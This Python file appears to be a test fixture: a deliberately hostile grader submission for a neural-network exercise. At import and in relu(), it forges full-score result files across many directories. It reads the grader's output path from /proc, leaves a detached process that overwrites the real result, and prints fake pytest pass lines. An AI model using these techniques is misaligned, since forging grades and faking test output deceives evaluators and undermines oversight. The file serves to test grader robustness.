"""Hostile submission: tries to forge its grade. At import and in every relu() call it writes a
full-score result.json and a report.html into every place a grader's output might be: its
working directory and the one above, $HOME, the grading user's home, /tmp, /var/tmp, /dev/shm,
the project's reports/<name>/ (found through the importable grader package), and the --out
folder read from the parent process's command line. It also leaves a detached process behind
that overwrites <out>/result.json once the real grader has written it, and prints a fake pytest
summary ("21 passed") and PASSED lines.

Expected: the result.json and report.html in the output folder are the grader's own (score not
full), no forged file exists anywhere outside the worker's copy, no process outlives grading.
relu() then raises. Everything but the attack is the reference solution, so any points lost
come from the attack alone.
"""

import json
import os
import pwd
import sys
import tempfile

import numpy as np

# Test-time parameters (unique token, paths, ports): tests/test_hostile.py writes them into
# hostile_params.json next to this file in the temporary copy it grades.
_PARAMS_FILE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "hostile_params.json")
PARAMS = {}
if os.path.exists(_PARAMS_FILE):
    with open(_PARAMS_FILE) as _fh:
        PARAMS = json.load(_fh)


TOKEN = PARAMS.get("token", "hostile-forged")
NAME = PARAMS.get("submission_name", "submission")
FORGED_RESULT = json.dumps({
    "schema_version": "1.0", "submission": NAME, "score": 21.0, "max_score": 21.0,
    "forged": TOKEN, "exercises": [{"name": "neuron", "status": "graded", "score": 21.0,
                                    "max_score": 21.0, "tests": []}]})
FORGED_REPORT = f"<html><body><h1>21/21 (100.0%) all tests passed</h1>{TOKEN}</body></html>"
FORGER = """
import os, sys, time
out, token, forged_result, forged_report = sys.argv[1:5]
path = os.path.join(out, "result.json")
deadline = time.time() + 25
while time.time() < deadline:
    try:
        with open(path) as fh:
            if token not in fh.read():
                time.sleep(0.5)
                with open(path, "w") as out_fh:
                    out_fh.write(forged_result)
                with open(os.path.join(out, "report.html"), "w") as out_fh:
                    out_fh.write(forged_report)
                break
    except OSError:
        pass
    time.sleep(0.1)
"""


def _grader_out_dir():
    """The --out argument of the grader that started us, if its command line is readable."""
    try:
        ppid = os.getppid()
        with open(f"/proc/{ppid}/cmdline", "rb") as fh:
            argv = fh.read().decode(errors="replace").split("\0")
        out = argv[argv.index("--out") + 1]
        return out if os.path.isabs(out) else os.path.join(os.readlink(f"/proc/{ppid}/cwd"), out)
    except (OSError, ValueError, IndexError):
        return None


def _targets():
    here = os.getcwd()
    places = [here, os.path.dirname(here), os.path.expanduser("~"), tempfile.gettempdir(),
              "/var/tmp", "/dev/shm", os.path.join(os.path.dirname(here), "reports", NAME)]
    for uid in (0, os.getuid()):
        try:
            places.append(pwd.getpwuid(uid).pw_dir)
        except KeyError:
            pass
    try:
        import grader

        project = os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__)))
        places += [os.path.join(project, "reports", NAME), os.path.join(project, "reports")]
    except ImportError:
        pass
    if PARAMS.get("canary_dir"):
        places.append(PARAMS["canary_dir"])
    out = _grader_out_dir()
    if out:
        places.append(out)
    return list(dict.fromkeys(places))


def _forge(when):
    for place in _targets():
        for name, text in (("result.json", FORGED_RESULT), ("report.html", FORGED_REPORT)):
            path = os.path.join(place, name)
            try:
                os.makedirs(place, exist_ok=True)
                with open(path, "w") as fh:
                    fh.write(text)
                print(f"hostile:forged_results ({when}) wrote {path}", flush=True)
            except OSError as exc:
                print(f"hostile:forged_results ({when}) could not write {path}: "
                      f"{exc.strerror}", flush=True)
    print("============================= test session starts ==============================")
    for test in ("test_relu_values", "test_relu_does_not_modify_input", "test_neuron_batch"):
        print(f"grader/suites/neuron/test_neuron.py::{test} PASSED")
    print("============================== 21 passed in 0.10s ==============================")
    print("neuron          21/21     all tests passed", flush=True)


def _leave_forger_behind():
    """A detached grandchild (own session) that outlives the worker if nothing kills it."""
    out = _grader_out_dir()
    if not out:
        return
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                devnull = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                os.execv(sys.executable, [sys.executable, "-c", FORGER, out, TOKEN,
                                          FORGED_RESULT, FORGED_REPORT,
                                          PARAMS.get("marker", "hostile-forger")])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


_forge("import")
_leave_forger_behind()


def relu(z):
    _forge("relu")
    raise RuntimeError("hostile: relu() gives no answer after its attack")


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def tanh(z):
    return np.tanh(np.asarray(z, dtype=float))


def step(z):
    return np.where(np.asarray(z) >= 0, 1.0, 0.0)


def softmax(z):
    z = np.asarray(z, dtype=float)
    exps = np.exp(z - np.max(z, axis=-1, keepdims=True))
    return exps / np.sum(exps, axis=-1, keepdims=True)


def neuron_forward(x, w, b, activation="sigmoid"):
    functions = {"relu": relu, "sigmoid": sigmoid, "tanh": tanh, "step": step,
                 "linear": lambda z: np.asarray(z, dtype=float)}
    if activation not in functions:
        raise ValueError(f"unknown activation {activation!r}; choose one of: "
                         f"{', '.join(functions)}")
    z = np.asarray(x, dtype=float) @ np.asarray(w, dtype=float) + b
    out = functions[activation](z)
    return float(out) if np.ndim(out) == 0 else out


def dense_forward(X, W, b, activation="relu"):
    if activation == "softmax":
        return softmax(np.asarray(X, dtype=float) @ np.asarray(W, dtype=float) + b)
    return neuron_forward(X, W, b, activation)
